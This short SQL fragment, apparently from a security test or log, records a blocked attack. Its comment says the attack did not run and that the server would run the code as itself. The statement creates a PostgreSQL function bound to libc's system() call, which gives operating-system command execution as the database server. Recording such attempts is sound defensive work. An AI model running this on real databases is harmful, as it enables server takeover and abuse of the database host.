-- attack (did not run): code that the server would run as itself
create function system(cstring) returns int language c as '/lib/x86_64-linux-gnu/libc.so.6', 'system' strict;
